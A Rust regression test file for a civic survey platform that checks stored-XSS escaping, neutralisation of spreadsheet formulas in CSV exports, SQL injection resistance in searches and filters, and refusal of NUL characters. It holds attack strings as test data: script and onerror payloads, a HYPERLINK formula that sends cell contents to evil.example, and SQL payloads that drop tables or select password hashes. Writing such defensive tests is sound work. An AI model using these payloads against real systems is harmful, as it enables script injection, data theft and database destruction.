//! Regression tests for the attacks seen on other civic platforms: stored XSS in survey texts,
//! council comments, group names and posts, and free-text answers (escaped on every page that
//! shows them); formula injection in spreadsheet exports; SQL injection through every search
//! and filter. (Cross-site requests and who may do what: `authorization.rs`; session fixation
//! and sign-in enumeration: `http.rs` and `store_contract.rs`.) Runs on SQLite and PostgreSQL.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests fail by panicking"
)]

mod common;

use common::{Browser, TestApp, scalar};
use shared::Lang;
use yoriai_core::db::NewResponse;
use yoriai_core::demo::{
    DEMO_CLOSED_SLUG, DEMO_COUNCIL_EMAIL, DEMO_DRAFT_SLUG, DEMO_ORGANISER_EMAIL, DEMO_STAFF_EMAIL,
    DEMO_STAFF_PASSWORD, DEMO_SURVEY_SLUG,
};

/// Script in every form a stored-XSS attempt takes.
const XSS: &str = "<script>alert(\"yoriai\")</script><img src=x onerror=alert(1)>";

/// A text that a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";

/// Fails when `html` holds the payload as markup; it must be there, escaped, as text.
fn assert_escaped(html: &str, where_: &str) {
    for live in ["<script>alert(", "<img src=x onerror"] {
        if let Some(at) = html.find(live) {
            let from = html[..at]
                .char_indices()
                .rev()
                .nth(200)
                .map_or(0, |(i, _)| i);
            panic!(
                "{where_}: the payload is live markup: …{}…",
                &html[from..(at + 60).min(html.len())]
            );
        }
    }
    assert!(
        html.contains("&lt;script&gt;alert("),
        "{where_}: the payload should be shown, escaped"
    );
}

async fn signed_in<'a>(app: &'a TestApp, email: &str) -> Browser<'a> {
    let mut browser = Browser::new(app);
    browser
        .post_to(
            "/sign-in",
            &[("email", email), ("password", DEMO_STAFF_PASSWORD)],
        )
        .await;
    browser
}

async fn page(browser: &mut Browser<'_>, path: &str) -> String {
    let res = browser.get(path).await;
    assert_eq!(res.status(), 200, "GET {path}");
    res.text().await.unwrap()
}

async fn survey_id(app: &TestApp, slug: &str) -> i64 {
    app.core
        .store
        .survey_by_slug(slug)
        .await
        .unwrap()
        .unwrap()
        .id
}

async fn stored_xss(app: &TestApp) {
    let mut staff = signed_in(app, DEMO_STAFF_EMAIL).await;
    // Survey texts: a survey titled with the payload, published, on every page showing it.
    let edit = staff
        .post_to(
            "/staff/surveys/new",
            &[("title", XSS), ("slug", "xss-title"), ("start", "blank")],
        )
        .await;
    staff
        .post_to(&edit, &[("action", "publish"), ("confirmed", "1")])
        .await;
    let id = survey_id(app, "xss-title").await;
    for path in [
        "/staff".to_string(),
        edit.clone(),
        format!("/staff/surveys/{id}"),
        "/s/xss-title".to_string(),
        "/s/xss-title/paper".to_string(),
        format!("/staff/surveys/{id}/flyer"),
    ] {
        let html = page(&mut staff, &path).await;
        assert_escaped(&html, &path);
    }

    // A council member's comment on the draft, read by staff.
    let mut council = signed_in(app, DEMO_COUNCIL_EMAIL).await;
    let draft = survey_id(app, DEMO_DRAFT_SLUG).await;
    council
        .post_to(
            &format!("/review/{draft}/comment"),
            &[("target", "use_freq"), ("body", XSS)],
        )
        .await;
    let html = page(&mut staff, &format!("/review/{draft}")).await;
    assert_escaped(&html, "council comment");

    // A group proposed with the payload as its name and description, and a post of it.
    let mut organiser = signed_in(app, DEMO_ORGANISER_EMAIL).await;
    let district = app
        .core
        .store
        .districts(
            app.core
                .store
                .survey_by_slug(DEMO_SURVEY_SLUG)
                .await
                .unwrap()
                .unwrap()
                .ward_id,
        )
        .await
        .unwrap()[0]
        .id
        .to_string();
    let group = organiser
        .post_to(
            "/groups/new",
            &[
                ("name", XSS),
                ("kind", "circle"),
                ("description", XSS),
                ("meeting_place", XSS),
                ("meeting_times", XSS),
                ("contact_policy", "public"),
                ("contact", XSS),
                ("district", &district),
                ("tags", "xss"),
            ],
        )
        .await;
    let html = page(&mut organiser, &group).await;
    assert_escaped(&html, "proposed group");
    let html = page(&mut staff, "/groups/review").await;
    assert_escaped(&html, "proposal queue");
    let approved = app
        .core
        .directory(None, &shared::network::DirectoryQuery::default())
        .await
        .unwrap()
        .groups[0]
        .id;
    organiser
        .post_to(
            &format!("/groups/{approved}/posts"),
            &[("kind", "news"), ("title", XSS), ("body", XSS)],
        )
        .await;
    for path in [format!("/groups/{approved}"), "/feed".to_string()] {
        let html = page(&mut organiser, &path).await;
        assert_escaped(&html, &path);
    }

    // Free-text answers, on the staff pages that list them and in the exports.
    let closed = app
        .core
        .store
        .survey_by_slug(DEMO_CLOSED_SLUG)
        .await
        .unwrap()
        .unwrap();
    let answers = serde_json::json!({ "comment": XSS, "nickname": FORMULA }).to_string();
    app.core
        .store_response(NewResponse {
            answers_json: answers,
            lang: Lang::Ja,
            texts: vec![
                ("comment".into(), XSS.into()),
                ("nickname".into(), FORMULA.into()),
            ],
            ..common::response(
                (closed.id, closed.current_version_id.unwrap()),
                "xss-answer",
                "1",
            )
        })
        .await
        .unwrap();
    let closed = closed.id;
    for path in [
        format!("/staff/surveys/{closed}"),
        format!("/staff/surveys/{closed}/texts/comment"),
        format!("/staff/surveys/{closed}/texts/comment?q=script"),
    ] {
        let html = page(&mut staff, &path).await;
        assert_escaped(&html, &path);
    }
    let csv = page(
        &mut staff,
        &format!("/staff/surveys/{closed}/export?format=csv"),
    )
    .await;
    assert!(
        csv.contains("'=HYPERLINK("),
        "a formula is written as text in CSV"
    );
    assert!(!csv.contains(",=HYPERLINK(") && !csv.contains(",\"=HYPERLINK("));
    let json = page(
        &mut staff,
        &format!("/staff/surveys/{closed}/export?format=json"),
    )
    .await;
    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(
        parsed.to_string().contains("\\u003cscript") || parsed.to_string().contains("<script>"),
        "JSON keeps the text as data"
    );
}

/// Rows of every table an injection might empty or change.
async fn table_counts(app: &TestApp) -> Vec<i64> {
    let mut counts = Vec::new();
    for table in [
        "users",
        "surveys",
        "responses",
        "network_groups",
        "sessions",
    ] {
        counts.push(scalar(app, &format!("SELECT COUNT(*) FROM {table}")).await);
    }
    counts
}

async fn sql_injection(app: &TestApp) {
    let mut staff = signed_in(app, DEMO_STAFF_EMAIL).await;
    let closed = survey_id(app, DEMO_CLOSED_SLUG).await;
    let before = table_counts(app).await;
    let payloads = [
        "' OR '1'='1",
        "1 OR 1=1",
        "'; DROP TABLE users; --",
        "\" OR \"\"=\"",
        "%' UNION SELECT email, password_hash FROM users --",
        "1; DELETE FROM responses",
        "%",
        "_",
    ];
    for payload in payloads {
        let q: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        // The directory: search, tag, district and kind filters.
        for query in [
            format!("q={q}"),
            format!("tag={q}"),
            format!("district={q}"),
            format!("kind={q}"),
        ] {
            let res = staff.get(&format!("/groups?{query}")).await;
            assert!(res.status().as_u16() < 500, "/groups?{query}");
            let html = res.text().await.unwrap();
            // Read as a literal: nothing in the demo directory matches these words.
            if query.starts_with("q=") && payload != "%" && payload != "_" {
                assert!(
                    !html.contains("class=\"card group-card"),
                    "/groups?{query} matched groups"
                );
            }
        }
        // The results page filters and the cross-tab variables.
        for query in [
            format!("d={q}"),
            format!("from={q}&to={q}"),
            format!("ch={q}&lang={q}"),
            format!("a=age%3A{q}"),
            format!("a={q}"),
            format!("rows={q}&columns=district"),
        ] {
            let path = format!("/staff/surveys/{closed}/results?{query}");
            let res = staff.get(&path).await;
            assert!(res.status().as_u16() < 500, "{path}: {}", res.status());
        }
        // Free-text search and the export filters.
        for path in [
            format!("/staff/surveys/{closed}/texts/comment?q={q}"),
            format!("/staff/surveys/{closed}/export?format=csv&d={q}&a=age%3A{q}"),
        ] {
            let res = staff.get(&path).await;
            assert!(res.status().as_u16() < 500, "{path}: {}", res.status());
        }
        let res = staff
            .post("/api/directory", &[("query", &format!("q={q}"))])
            .await;
        assert_eq!(res.status(), 200, "/api/directory q={payload}");
    }
    assert_eq!(table_counts(app).await, before, "nothing changed");
}

/// A NUL character (which PostgreSQL cannot store in text) in any form or search is refused
/// with a message and 422, storing nothing: it once answered 500 on PostgreSQL, and a NUL in a
/// free-text answer saved the page and then made every send fail.
async fn nul_characters(app: &TestApp) {
    let mut staff = signed_in(app, DEMO_STAFF_EMAIL).await;
    let mut council = signed_in(app, DEMO_COUNCIL_EMAIL).await;
    let closed = survey_id(app, DEMO_CLOSED_SLUG).await;
    let draft = survey_id(app, DEMO_DRAFT_SLUG).await;
    let before = table_counts(app).await;
    let comments = "SELECT COUNT(*) FROM survey_comments";
    let comments_before = scalar(app, comments).await;
    let refused = |res: reqwest::Response, what: &'static str| async move {
        assert_eq!(res.status(), 422, "{what}");
        let body = res.text().await.unwrap();
        assert!(body.contains("制御文字"), "{what}: {body}");
    };
    let sign_up = [
        ("email", "a\0b@example.jp"),
        ("display_name", "住民"),
        ("password", "a long enough passphrase"),
    ];
    refused(app.post_form("/sign-up", &sign_up).await, "sign-up").await;
    let sign_in = [("email", "staff\0@example.jp"), ("password", "x\0")];
    refused(app.post_form("/sign-in", &sign_in).await, "sign-in").await;
    refused(staff.get("/groups?q=%00").await, "directory search").await;
    refused(
        staff
            .get(&format!("/staff/surveys/{closed}/texts/comment?q=a%00"))
            .await,
        "free-text search",
    )
    .await;
    let comment = [("target", ""), ("body", "言葉が\0難しい")];
    refused(
        council
            .post(&format!("/review/{draft}/comment"), &comment)
            .await,
        "council comment",
    )
    .await;
    // A server function answers with the JSON of its refusal.
    let res = staff.post("/api/directory", &[("query", "q=\0")]).await;
    assert_eq!(res.status(), 422);
    let refusal: shared::ApiError = serde_json::from_str(&res.text().await.unwrap()).unwrap();
    assert!(
        matches!(refusal, shared::ApiError::Validation(_)),
        "{refusal:?}"
    );
    // A free-text answer: refused next to its question with what was typed kept, nothing
    // saved; without the character the page is saved and the response sent.
    let survey = format!("/s/{DEMO_SURVEY_SLUG}");
    let mut resident = Browser::new(app);
    resident.post_to(&format!("{survey}/start"), &[]).await;
    let res = resident
        .post(
            &format!("{survey}/p/5"),
            &[("q.comment", "日曜\0日も開けて"), ("nav", "next")],
        )
        .await;
    assert_eq!(res.status(), 422);
    let html = res.text().await.unwrap();
    assert!(html.contains("制御文字"), "{html}");
    assert!(html.contains("日曜"), "what was typed is kept");
    resident
        .post_to(
            &format!("{survey}/p/5"),
            &[("q.comment", "日曜日も開けて"), ("nav", "next")],
        )
        .await;
    let mut after = table_counts(app).await;
    after[4] = before[4];
    assert_eq!(after, before, "no account, response or group made");
    assert_eq!(scalar(app, comments).await, comments_before);
}

async fn story(app: TestApp) {
    stored_xss(&app).await;
    sql_injection(&app).await;
    nul_characters(&app).await;
    app.stop().await;
}

#[tokio::test]
async fn attacks_are_harmless_on_sqlite() {
    story(TestApp::sqlite().await).await;
}

#[tokio::test]
async fn attacks_are_harmless_on_postgres() {
    let Some(app) = TestApp::postgres().await else {
        return;
    };
    story(app).await;
}
